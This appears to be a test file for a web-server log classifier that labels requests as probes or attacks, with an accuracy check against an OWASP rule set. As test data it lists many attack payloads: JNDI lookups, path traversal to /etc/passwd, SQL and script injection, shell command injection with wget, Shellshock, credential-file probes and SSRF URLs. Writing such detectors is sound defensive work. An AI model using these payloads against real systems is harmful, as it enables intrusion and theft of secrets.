import { readFileSync } from 'node:fs'
import { gunzipSync } from 'node:zlib'
import { expect, it } from 'vitest'
import { asCombined } from '#lib/sample/lines.ts'
import type { LoggedRequest } from '#lib/sample/request.ts'
import type { AcceptedHit } from '#lib/schema/hit.ts'
import { familyOf, probedFields, probeFamilies } from '#lib/star/probes.ts'
import { acceptText, hitsOf } from '../accept/show.ts'
import { needs, shared } from '../needs.ts'

const attacks = new Set(probeFamilies.filter(({ isAttack }) => isAttack).map(({ name }) => name))

/** The family of a path with its query. */
function familyOfUri(uri: string): string | null {
  const [path, query] = uri.split(/\?(.*)/s)
  return familyOf('path', path!) ?? (query === undefined ? null : familyOf('query', query))
}

const familiesOf = (hit: AcceptedHit) =>
  probedFields.map((field) => (hit[field] === null ? null : familyOf(field, hit[field])))
const isAttack = (hit: AcceptedHit) => familiesOf(hit).some((family) => family && attacks.has(family))

const examples: Record<string, readonly string[]> = {
  code: [
    '/?x=${jndi:ldap://45.1.2.3/a}',
    '/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D',
    '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%29%7D/',
    '/?class.module.classLoader.URLs%5B0%5D=0',
    '/?a=<?php+phpinfo();?>',
    '/?x={{7*7}}',
    '/?a=__proto__[x]=1'
  ],
  traversal: [
    '/../../etc/passwd',
    '/%2e%2e/%2e%2e/windows/win.ini',
    '/%252e%252e%252fetc%252fpasswd',
    '/a/%c0%ae%c0%ae/x',
    '/download?file=....//....//etc/passwd',
    '/DOWNLOAD?FILE=..%5C..%5CBOOT.INI'
  ],
  sql: [
    "/?id=1'+OR+1=1--",
    '/?id=-1+UNION+ALL+SELECT+1,2',
    '/?id=1/**/union/**/select/**/1',
    '/?id=1);waitfor delay',
    "/?id=1'%20and%20sleep(5)",
    '/?u[$ne]=1'
  ],
  script: [
    '/?q=<script>alert(1)</script>',
    '/?q=%253Cscript%253E',
    '/?q="><img src=x onerror=alert(1)>',
    '/?next=javascript:alert(1)'
  ],
  command: [
    '/?ip=1.1.1.1;wget http://x/y',
    '/?a=|id',
    '/?a=$(whoami)',
    '/?a=%0Acat%20/etc/x',
    '/?x=/bin/sh',
    '/?f=for /f "tokens=*" %a in (x) do calc'
  ],
  secrets: [
    '/.env',
    '/.ENV',
    '/%2eenv',
    '/.git/config',
    '/.aws/credentials',
    '/wp-config.php.bak',
    '/wp-config.php~',
    '/index.php.swp',
    '/id_rsa',
    '/docker-compose.yml',
    '/phpinfo.php',
    '/actuator/env'
  ],
  backdoor: [
    '/wso.php',
    '/Worse_Linux_Shell.php',
    '/wp-content/uploads/2024/01/x.php',
    '/.well-known/admin.php'
  ],
  exploit: [
    '/?s=index/%5Cthink%5CContainer/invokefunction&function=call_user_func_array',
    '/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin',
    '/tmui/login.jsp/..;/tmui/x',
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/main/config/getkefuData',
    '/boaform/admin/formLogin',
    '/w00tw00t.at.ISC.SANS.DFind',
    '/dana-na/',
    '/setup.cgi',
    '/x?type=rau&a'
  ],
  inclusion: ['/?page=http://evil.example/x.txt?', '/?u=gopher://127.0.0.1:25/', '/?u=http://1.2.3.4/x.sh'],
  forged: ['/?url=http://169.254.169.254/latest', '/?url=http://localhost/'],
  proxy: ['http://example.com/', 'example.com:443'],
  sql_text: ['/?q=select+a+from+b', '/?q=information_schema'],
  code_text: ['/?q=alert()', '/api?name=${name}', '/?cmd=ls'],
  backup: ['/files/backup.zip', '/downloads/db.sql.gz', '/config.json'],
  product: ['/graphql', '/swagger/index.html', '/login.jsp', '/geoserver/web/'],
  wordpress: ['/wp-login.php', '/blog/wp-admin/', '/xmlrpc.php'],
  admin: ['/phpmyadmin/', '/admin/', '/adminer-4.8.1.php']
}

it.each(Object.entries(examples))('%s is known by its requests', (family, uris) => {
  expect(uris.map((uri) => [uri, familyOfUri(uri)])).toEqual(uris.map((uri) => [uri, family]))
})

it('every family has an example', () => {
  expect(Object.keys(examples).sort()).toEqual(probeFamilies.map(({ name }) => name).sort())
})

it('an honest request is no attack', () => {
  const honest = [
    // Pages that load their own settings, and what editors and proxies of pages use.
    '/config.json',
    '/settings.json',
    '/assets/config/config.prod.json',
    '/admin/config.yml',
    '/package.json',
    '/.well-known/security.txt',
    '/.well-known/openid-configuration',
    '/.netlify/functions/hello',
    '/.auth/me',
    '/.DS_Store',
    // Sites of WordPress and other systems.
    '/wp-login.php?redirect_to=https%3A%2F%2Fexample.com%2Fwp-admin%2F&reauth=1',
    '/wp-admin/load-scripts.php?c=0&load%5Bchunk_0%5D=jquery-core,jquery-migrate,utils&ver=6.9.4',
    '/wp-admin/network/sites.php',
    '/wp-includes/js/tinymce/wp-tinymce.php',
    '/wp-content/plugins/some/ajax.php',
    '/wp-json/wp/v2/pages?context=edit&_fields=id,link&orderby=menu_order&order=asc',
    '/Telerik.Web.UI.WebResource.axd?_TSM_HiddenField_=x&compress=1',
    '/login.jsp',
    '/graphql?query=%7Bme%7Bname%7D%7D',
    '/swagger/v1/swagger.json',
    '/actuator/health',
    '/test.php',
    '/info.php',
    '/cgi-bin/guestbook.pl?page=2',
    '/admin/',
    '/phpmyadmin/index.php',
    '/index.php?option=com_content&view=article&id=12:title&order=asc',
    // Downloads.
    '/files/backup.zip',
    '/latest.zip',
    '/bin/tool.tar.gz',
    '/.imaging/default/x.jpg',
    '/downloads/dump.sql.gz',
    '/data/migrations/1548957970627_remove-db-version.sql',
    '/certs/ca.pem',
    '/seashells.php',
    '/alfabet.php',
    '/user/project/src/branch/main/deploy/docker-compose.yml',
    // Addresses and text in queries.
    '/search?q=select+from',
    '/search?q=select+a+seat+from+the+map',
    '/search?q=drop+table+tennis',
    '/search?q=union+of+select+committees',
    '/search?q=O%27Reilly+%22exact+phrase%22',
    '/search?q=rock+%27n%27+roll+or+jazz',
    '/search?q=solar+system+(planets)',
    '/search?q=C%23+and+C%2B%2B',
    '/search?q=a+%3C+b+and+c+%3E+d',
    '/search?q=price+%3E+100',
    '/search?q=%3Cinput%3E+element',
    '/search?q=console.log',
    '/search?q=cat%3B+dog%3B+mouse',
    '/search?q=if+exists',
    '/search?q=time+curl',
    '/search?q=what+is+%2Fetc',
    '/?redirect=https%3A%2F%2Fexample.com%2Faccount',
    '/?redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback&code=abc',
    '/image?url=http://example.com/picture.jpg',
    '/image?url=https%3A%2F%2Fcdn.example.com%2Fa.png%3Fw%3D10',
    '/proxy?url=http%3A%2F%2Fexample.com%2Fpage%3Fid%3D123',
    '/api/js?key=x&onload=init&render=explicit',
    '/?onload=start',
    '/api?filter=name+eq+%27x%27&$top=10',
    '/api?where=%7B%22id%22%3A1%7D',
    '/api?request=%7B%22limit%22%3A100%2C%22order%22%3A%22asc%22%2C%22select%22%3A%22or%22%7D',
    '/search?q=10%22+and+12%22+pipes',
    '/search?q=%22red%22+or+%22blue%22',
    '/items?ids[]=1&ids[]=2&sort[name]=asc',
    '/?utm_source=a&utm_campaign=b--c&gclid=j0KC--mC1jf',
    '/?fbclid=IwAR1dug--Q2Y7',
    '/page/..%20.html',
    '/a...b/c',
    '/1..10',
    '/etc/',
    '/?data=eyJhIjoxfQ==&sig=a/b+c=',
    '/?color=%23fff&t=12:30',
    '/?d=2024-01-01;2024-02-01',
    '/path;jsessionid=ABC123',
    '/?a=1;id=5;set=2',
    '/?tpl=%7B%7Bname%7D%7D',
    '/profile/${user}',
    '/favicon.ico?v=2'
  ]
  expect(
    honest.map((uri) => [uri, familyOfUri(uri)]).filter(([family]) => family && attacks.has(family))
  ).toEqual([])
})

it('an attack is seen in an agent and a referrer, and an address in a referrer is none', () => {
  expect(familyOf('user_agent', '${jndi:ldap://1.2.3.4/a}')).toBe('code')
  expect(familyOf('user_agent', '() { :; }; /bin/bash -c "id"')).toBe('command')
  expect(familyOf('referrer', "1' and sleep(5)--")).toBe('sql')
  expect(familyOf('referrer', 'https://x.example/${jndi:ldap://a}')).toBe('code')
  expect(familyOf('referrer', 'https://x.example/?q=../../etc/passwd')).toBeNull()
})

it('an agent of a browser is no attack', () => {
  const agents = [
    'Mozilla/5.0 (Linux; U; Android 2.3; id; GT-I9100 Build/X) AppleWebKit/533.1 (KHTML, like Gecko) Version/4.0',
    'Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF) AppleWebKit/534.28.2',
    'Links (2.3pre1; Linux 2.6.38-8-generic x86_64; 170x48)',
    'curl/7.81.0',
    'Wget/1.21 (linux-gnu)',
    'ansible-httpget',
    'Chef Client/12.0 (ruby-2.1; ohai-8; x86_64-linux; +https://chef.io)',
    "Let's Encrypt validation server; http://letsencrypt.org",
    'python-requests/2.31.0'
  ]
  expect(agents.filter((agent) => familyOf('user_agent', agent))).toEqual([])
})

const repeated = [
  'a',
  '/',
  '.',
  '../',
  ' ',
  "'",
  '"',
  '<',
  '{',
  '$',
  '$$',
  '=',
  '(',
  '%25',
  '+',
  ';',
  '; ',
  '\n',
  '|',
  '&a=',
  '/a',
  'a.',
  '[',
  'select ',
  'union ',
  "' or ",
  '<img ',
  '<script ',
  'on',
  "'on",
  'for /f ',
  'if ',
  'if not ',
  '=http://',
  '=http://a ',
  '{{',
  '${',
  '/*',
  '/**/',
  '/wp-includes/',
  '/.git',
  '.php',
  '1=',
  'or 1',
  'x or ',
  'a:',
  '=x@',
  '#{',
  '@{ ',
  "'[",
  '%2525',
  '=$a[',
  '\u0060',
  '() {'
]
/** The least time of many is what the text costs: others use the machine too. It stops once `enough` ms do. */
function timeOf(text: string, enough: number): number {
  let least = Infinity
  for (let i = 0; i < 20 && least > enough; i++) {
    const start = performance.now()
    for (const field of probedFields) familyOf(field, text)
    least = Math.min(least, performance.now() - start)
  }
  return least
}

it('time grows with the length of a hostile text', () => {
  const slow = repeated.flatMap((part) => {
    const [small, large] = [4_096, 32_768].map((size) => part.repeat(size / part.length))
    const least = timeOf(small!, 0)
    // Eight times the text takes eight times as long; a pattern that starts over at each place takes 64 times, which is
    // seconds. A short time is no proof on a machine that others use.
    const most = Math.max(24 * least, 100)
    const took = timeOf(large!, most)
    return took > most ? [`${JSON.stringify(part)}: ${least} ms, then ${took} ms`] : []
  })
  expect(slow).toEqual([])
})

interface Listed {
  rule: string
  attack: boolean
  method: string
  uri: string
  ua: string | null
  referer: string | null
}

/** The hit that a server's log makes of a request. */
function logged({ method, uri, ua, referer }: Listed): AcceptedHit {
  const request = {
    ip: '192.0.2.1',
    time: Date.parse('2026-11-01'),
    line: `${method} ${uri} HTTP/1.1`,
    status: 200,
    bytes: 5,
    referrer: referer,
    agent: ua,
    remote_user: null
  } as LoggedRequest
  return hitsOf(acceptText(asCombined(request)))[0]!
}

needs('shared')('the core rules of OWASP', () => {
  const listed = gunzipSync(readFileSync(`${shared}data/attacks/crs.jsonl.gz`))
    .toString()
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Listed)
  const share = (some: Listed[], test: (hit: AcceptedHit) => boolean) =>
    some.filter((one) => test(logged(one))).length / some.length

  // Of 992, body or cookies hold the attack of about 30, and tokens of about 20 are redacted.
  it('names 7 of 10 attacks', () => {
    const some = listed.filter(({ attack }) => attack)
    expect(some).toHaveLength(992)
    expect(share(some, isAttack)).toBeGreaterThan(0.72)
    expect(share(some, (hit) => familiesOf(hit).some((family) => family !== null))).toBeGreaterThan(0.85)
  })

  // Those that remain are attacks all the same, of another rule: `system('…;wget …')`, `javascript:alert(1)`.
  it('calls 1 of 50 other requests an attack at most', () => {
    const others = listed.filter(({ attack }) => !attack)
    expect(others).toHaveLength(275)
    expect(share(others, isAttack)).toBeLessThanOrEqual(0.02)
  })
})
